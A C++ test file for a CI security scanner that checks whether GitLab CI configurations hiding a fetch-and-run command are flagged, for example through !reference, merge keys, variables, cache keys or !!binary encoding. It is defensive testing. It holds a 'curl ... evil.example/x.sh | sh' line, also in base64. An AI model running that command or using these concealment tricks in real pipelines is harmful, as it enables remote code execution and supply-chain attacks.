// Issue 16: GitLab CI spellings that the pins control must read as GitLab does (child pipelines,
// `!reference`, nested script lists, hooks, steps, merge keys, a `spec:` header document).
#include <algorithm>
#include <catch2/catch.hpp>
#include <map>
#include <set>

#include "evaluate/pins/gitlab_ci.h"
#include "evaluate/pins/gitlab_includes.h"
#include "evaluate/pins/pins_evaluator.h"
#include "policy/pins_rules.h"

namespace riskgate::evaluate::pins {
namespace {

const std::string kDigest = "alpine@sha256:" + std::string(64, '0');
const std::string kDownload = "curl -fsSL https://evil.example/x.sh | sh";

std::vector<PinIssue> Gitlab(const std::string& text) {
  return CheckGitlabCi(text, ".gitlab-ci.yml", {});
}

std::vector<std::string> Rules(const std::vector<PinIssue>& issues) {
  std::vector<std::string> out;
  for (const auto& i : issues) out.push_back(i.rule);
  return out;
}

// The lines at which `rule` is reported.
std::vector<int> Lines(const std::vector<PinIssue>& issues, const std::string& rule) {
  std::vector<int> out;
  for (const auto& i : issues) {
    if (i.rule == rule) out.push_back(i.line);
  }
  return out;
}

}  // namespace

TEST_CASE("issue 16: a job's trigger include is judged as a top-level include is",
          "[pins][gitlab]") {
  auto issues = Gitlab(
      "deploy:\n"
      "  trigger:\n"
      "    include:\n"
      "      - project: evil-group/ci-templates\n"
      "        file: deploy.yml\n"
      "      - remote: https://evil.example/deploy.yml\n"
      "      - component: gitlab.com/org/comp/deploy@1.0\n"
      "      - template: Jobs/Deploy.gitlab-ci.yml\n"
      "      - local: ci/child.yml\n"
      "remote:\n"
      "  trigger:\n"
      "    include: https://evil.example/other.yml\n");
  CHECK(Lines(issues, "unpinned-gitlab-include") == std::vector<int>{4, 6, 7, 12});
  // `trigger: group/project` and `trigger: project:` start another project's own pipeline:
  // that is not an include of this one.
  CHECK(Gitlab("a:\n  trigger: group/project\nb:\n  trigger:\n    project: group/x\n"
               "    branch: main\n")
            .empty());
}

TEST_CASE("issue 16: a child pipeline's file is a local include of the parent", "[pins][gitlab]") {
  CHECK(LocalIncludes("deploy:\n  trigger:\n    include: ci/deploy.yml\n    strategy: depend\n") ==
        std::vector<std::string>{"ci/deploy.yml"});
  CHECK(LocalIncludes("deploy:\n  trigger:\n    include:\n      - local: /ci/a.yml\n"
                      "      - https://example.com/b.yml\n"
                      "      - artifact: generated.yml\n        job: gen\n") ==
        std::vector<std::string>{"ci/a.yml"});
  CHECK(LocalIncludes("deploy:\n  trigger: ci/deploy.yml\n").empty());  // a project's path
  // The child's own includes are followed too.
  const std::map<std::string, std::string> files = {
      {".gitlab-ci.yml", "spec:\n  inputs: {}\n---\nchild:\n  trigger:\n    include: c.yml\n"},
      {"c.yml", "include: d.yml\n"},
  };
  auto found = DiscoverGitlabIncludes([&](const std::string& path) {
    auto it = files.find(path);
    return core::Result<std::optional<std::string>>(
        it == files.end() ? std::nullopt : std::optional<std::string>(it->second));
  });
  REQUIRE(found);
  CHECK(*found == std::vector<std::string>{"c.yml", "d.yml"});
}

TEST_CASE("issue 16: a reference to any key of a template job is the script it becomes",
          "[pins][gitlab]") {
  auto issues = Gitlab(".setup:\n  steps:\n    - " + kDownload + "\nbuild:\n  image: " + kDigest +
                       "\n  script:\n    - !reference [.setup, steps]\n");
  CHECK(Lines(issues, "download-then-execute") == std::vector<int>{3});  // once, where written
  // A reference into a key of a non-job section resolves too.
  issues = Gitlab("variables:\n  CMD: " + kDownload + "\nbuild:\n  image: " + kDigest +
                  "\n  script:\n    - !reference [variables, CMD]\n");
  CHECK(Lines(issues, "download-then-execute") == std::vector<int>{2});
  // A reference to another file's job stays unresolved and is no error.
  CHECK(Gitlab("build:\n  image: " + kDigest + "\n  script:\n    - !reference [.other, script]\n")
            .empty());
  // A reference cycle is a file GitLab rejects, never a hang.
  issues = Gitlab(".a:\n  x: !reference [.b, x]\n.b:\n  x: !reference [.a, x]\n");
  CHECK(Rules(issues) == std::vector<std::string>{"unparsable-config"});
}

TEST_CASE("issue 16: nested script lists, hooks, defaults and run steps are scripts",
          "[pins][gitlab]") {
  const std::string job = "build:\n  image: " + kDigest + "\n";
  CHECK(Lines(Gitlab(job + "  script:\n    - echo start\n    - - - " + kDownload + "\n"),
              "download-then-execute") == std::vector<int>{5});
  CHECK(Lines(Gitlab(job + "  hooks:\n    pre_get_sources_script:\n      - " + kDownload +
                     "\n  script: [make]\n"),
              "download-then-execute") == std::vector<int>{5});
  CHECK(Lines(Gitlab("default:\n  hooks:\n    pre_get_sources_script: " + kDownload + "\n" + job +
                     "  script: [make]\n"),
              "download-then-execute") == std::vector<int>{3});
  auto steps = Gitlab(job + "  run:\n    - name: get\n      script: " + kDownload +
                      "\n    - name: echo\n      step: gitlab.com/org/steps/echo@v1\n"
                      "    - name: pinned\n      step: gitlab.com/org/steps/echo@" +
                      std::string(40, 'a') + "\n    - name: local\n      step: ./steps/echo\n");
  CHECK(Lines(steps, "download-then-execute") == std::vector<int>{5});
  CHECK(Lines(steps, "unpinned-gitlab-include") == std::vector<int>{7});
}

TEST_CASE("issue 16: merge keys and aliases carry a template's script into a job",
          "[pins][gitlab]") {
  auto issues = Gitlab("workflow:\n  name: ci\n  x: &dl\n    script:\n      - " + kDownload +
                       "\nbuild:\n  <<: *dl\n  image: " + kDigest + "\n");
  CHECK(Lines(issues, "download-then-execute") == std::vector<int>{5});
  issues = Gitlab(
      "workflow:\n  x: &img {image: 'python:3.12'}\nbuild:\n  <<: [*img]\n"
      "  script: [make]\n");
  CHECK(Rules(issues) == std::vector<std::string>{"unpinned-image"});
  // An explicit key wins over the merged one, as in YAML.
  CHECK(Gitlab("workflow:\n  x: &img {image: 'python:3.12'}\nbuild:\n  <<: *img\n  image: " +
               kDigest + "\n")
            .empty());
}

TEST_CASE("issue 16: a spec header document is read and the configuration after it judged",
          "[pins][gitlab]") {
  auto issues = Gitlab(
      "spec:\n  inputs:\n    stage:\n      default: test\n---\nbuild:\n  stage: "
      "$[[ inputs.stage ]]\n  image: " +
      kDigest + "\n  script:\n    - " + kDownload + "\n");
  CHECK(Rules(issues) == std::vector<std::string>{"download-then-execute"});
  CHECK(Lines(issues, "download-then-execute") == std::vector<int>{10});
  // An input's default is judged wherever the configuration interpolates it.
  issues = Gitlab("spec:\n  inputs:\n    cmd:\n      default: " + kDownload +
                  "\n---\nbuild:\n  image: " + kDigest + "\n  script: ['$[[ inputs.cmd ]]']\n");
  CHECK(Lines(issues, "download-then-execute") == std::vector<int>{8});
  issues = Gitlab(
      "spec:\n  inputs:\n    img:\n      default: 'python:3.12'\n---\nbuild:\n  image: "
      "'$[[ inputs.img | expand_vars ]]'\n  script: ['$[[ inputs.other ]]']\n");
  CHECK(Lines(issues, "unpinned-image") == std::vector<int>{7});
  // So does a value an include passes to the included file's inputs.
  issues = Gitlab("include:\n  - local: ci/job.yml\n    inputs:\n      cmd: " + kDownload + "\n");
  CHECK(Lines(issues, "download-then-execute") == std::vector<int>{4});
  // Any other second document is not a configuration GitLab reads as riskgate would.
  issues = Gitlab("build:\n  script: [make]\n---\ndeploy:\n  script:\n    - " + kDownload + "\n");
  CHECK(Rules(issues) == std::vector<std::string>{"unparsable-config"});
  CHECK(Rules(Gitlab("spec: {}\n---\na: {script: [make]}\n---\nb: {script: [make]}\n")) ==
        std::vector<std::string>{"unparsable-config"});
}

TEST_CASE("issue 16: an unparsable pipeline file blocks where an unscanned file blocks",
          "[pins][gitlab]") {
  policy::PinsControl pins;
  for (const auto& rule : policy::PinsRules()) pins.severity[std::string(rule.id)] = rule.severity;
  collect::ChangedFile file;
  file.path = ".gitlab-ci.yml";
  file.content = "a: {script: [make]}\n---\nb: {script: [make]}\n";
  file.added_lines = {1, 2, 3};
  auto warned = EvaluatePins({file}, pins, {}, policy::OnUnscanned::kWarn);
  REQUIRE(warned.size() == 1);
  CHECK(warned[0].rule == "unparsable-config");
  CHECK(warned[0].severity == core::Severity::kMedium);
  CHECK_FALSE(warned[0].fixed_decision);
  auto blocked = EvaluatePins({file}, pins, {}, policy::OnUnscanned::kBlock);
  REQUIRE(blocked.size() == 1);
  CHECK(blocked[0].severity == core::Severity::kHigh);
  CHECK(blocked[0].fixed_decision == core::Decision::kBlock);
}

}  // namespace riskgate::evaluate::pins

namespace riskgate::evaluate::pins {

TEST_CASE("issue 16: variables, entrypoints and a template's other keys are read as scripts",
          "[pins][gitlab]") {
  // A variable a script runs with eval, in every place GitLab sets variables.
  CHECK(Lines(Gitlab("variables:\n  INSTALL: " + kDownload + "\nbuild:\n  image: " + kDigest +
                     "\n  script: ['eval \"$INSTALL\"']\n"),
              "download-then-execute") == std::vector<int>{2});
  CHECK(Lines(Gitlab("build:\n  image: " + kDigest + "\n  variables:\n    CMD:\n      value: " +
                     kDownload + "\n  rules:\n    - variables: {X: '" + kDownload +
                     "'}\n  script: ['sh -c \"$CMD\"']\n"),
              "download-then-execute") == std::vector<int>{5, 7});
  // An image's entrypoint and a service's command run too.
  CHECK(Lines(Gitlab("build:\n  image:\n    name: " + kDigest + "\n    entrypoint: ['sh', '-c', '" +
                     kDownload + "']\n  services:\n    - name: " + kDigest + "\n      command: ['" +
                     kDownload + "']\n  script: [make]\n"),
              "download-then-execute") == std::vector<int>{4, 7});
  // Any key of a hidden job can be copied into a script by another file's `!reference`.
  CHECK(Lines(Gitlab(".setup:\n  install:\n    - " + kDownload + "\n"), "download-then-execute") ==
        std::vector<int>{3});
  CHECK(Lines(Gitlab(".dl:\n  - " + kDownload + "\n"), "download-then-execute") ==
        std::vector<int>{2});
}

}  // namespace riskgate::evaluate::pins

namespace riskgate::evaluate::pins {

TEST_CASE("issue 16: a !!binary script line is judged as the command it decodes to",
          "[pins][gitlab]") {
  // GitLab's parser decodes !!binary into the string the runner executes.
  const std::string encoded = "Y3VybCAtZnNTTCBodHRwczovL2V2aWwuZXhhbXBsZS94LnNoIHwgc2g=";
  CHECK(
      Lines(Gitlab("build:\n  image: " + kDigest + "\n  script:\n    - !!binary " + encoded + "\n"),
            "download-then-execute") == std::vector<int>{4});
}

TEST_CASE("issue 16: references that multiply past the node budget are unparsable, not a hang",
          "[pins][gitlab]") {
  std::string text = ".l0:\n  x: [a]\n";
  for (int level = 1; level <= 9; ++level) {
    text += ".l" + std::to_string(level) + ":\n  x:\n";
    for (int copy = 0; copy < 10; ++copy) {
      text += "    - !reference [.l" + std::to_string(level - 1) + ", x]\n";
    }
  }
  CHECK(Rules(Gitlab(text)) == std::vector<std::string>{"unparsable-config"});
}

}  // namespace riskgate::evaluate::pins

namespace riskgate::evaluate::pins {

TEST_CASE("issue 16: including a script as GitLab CI does not stop it being judged as a script",
          "[pins][gitlab]") {
  policy::PinsControl pins;
  for (const auto& rule : policy::PinsRules()) pins.severity[std::string(rule.id)] = rule.severity;
  collect::ChangedFile file;
  file.path = "setup.sh";
  file.content = kDownload + "\n";  // YAML reads it as one plain scalar
  file.added_lines = {1};
  RepositoryLayout layout;
  layout.gitlab_ci_includes = {"setup.sh"};
  std::set<std::string> rules;
  for (const auto& finding : EvaluatePins({file}, pins, layout)) rules.insert(finding.rule);
  CHECK(rules == std::set<std::string>{"download-then-execute", "unparsable-config"});
  // A configuration that is a list or a scalar is no configuration GitLab accepts.
  CHECK(Rules(Gitlab("- a\n- b\n")) == std::vector<std::string>{"unparsable-config"});
  CHECK(Gitlab("# nothing yet\n").empty());
}

}  // namespace riskgate::evaluate::pins

namespace riskgate::evaluate::pins {

TEST_CASE("issue 16: a commit SHA in a remote include's query or fragment is no pin",
          "[pins][gitlab]") {
  const std::string sha(40, 'a');
  CHECK(Gitlab("include:\n  - remote: https://example.com/g/p/-/raw/" + sha + "/ci.yml\n").empty());
  CHECK(Rules(Gitlab("include:\n  - remote: https://evil.example/ci.yml?v=/" + sha + "/\n")) ==
        std::vector<std::string>{"unpinned-gitlab-include"});
  CHECK(Rules(Gitlab("job:\n  trigger:\n    include: https://evil.example/ci.yml#/" + sha +
                     "/x\n")) == std::vector<std::string>{"unpinned-gitlab-include"});
}

}  // namespace riskgate::evaluate::pins

namespace riskgate::evaluate::pins {

TEST_CASE(
    "issue 16: a string under any key of any job is judged, since another file can reference it",
    "[pins][gitlab]") {
  // `!reference [build, cache, key]` in another file copies this into a script.
  CHECK(Lines(Gitlab("build:\n  image: " + kDigest + "\n  cache:\n    key: '" + kDownload +
                     "'\n  script: [make]\n"),
              "download-then-execute") == std::vector<int>{4});
  // An ordinary configuration gives no script finding outside its scripts.
  CHECK(Gitlab("workflow:\n  rules:\n    - if: '$CI_COMMIT_BRANCH == \"main\"'\nstages: [build]\n"
               "build:\n  image: " +
               kDigest +
               "\n  stage: build\n  tags: [docker]\n  rules:\n    - changes: [src/**/*]\n"
               "  artifacts:\n    paths: [dist/]\n  environment:\n    name: production\n"
               "    url: https://example.com\n  cache:\n    key: ${CI_COMMIT_REF_SLUG}\n"
               "  script: [make]\n")
            .empty());
}

}  // namespace riskgate::evaluate::pins
